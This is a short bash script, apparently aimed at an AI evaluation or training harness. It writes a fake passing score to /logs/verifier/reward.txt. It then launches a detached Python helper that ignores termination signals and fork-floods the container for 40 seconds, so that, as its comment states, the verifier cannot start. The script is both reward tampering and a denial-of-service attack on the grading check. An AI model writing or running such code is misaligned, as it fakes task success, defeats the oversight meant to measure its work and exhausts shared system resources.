#!/bin/bash
# Uses up the processes of the container with sleepers, so that the verifier cannot start, after the reward was planted.
mkdir -p /logs/verifier
echo 1 > /logs/verifier/reward.txt
cat > /var/tmp/fill.py <<'END'
import os, signal, time
if os.fork(): os._exit(0)
os.setsid()
signal.signal(signal.SIGTERM, signal.SIG_IGN)
n = os.open('/dev/null', os.O_RDWR)
for fd in (0, 1, 2): os.dup2(n, fd)
end = time.time() + 40
while time.time() < end:
    try:
        if os.fork() == 0:
            time.sleep(max(0, end - time.time()))
            os._exit(0)
    except OSError: time.sleep(0.2)
END
python3 /var/tmp/fill.py
sleep 6
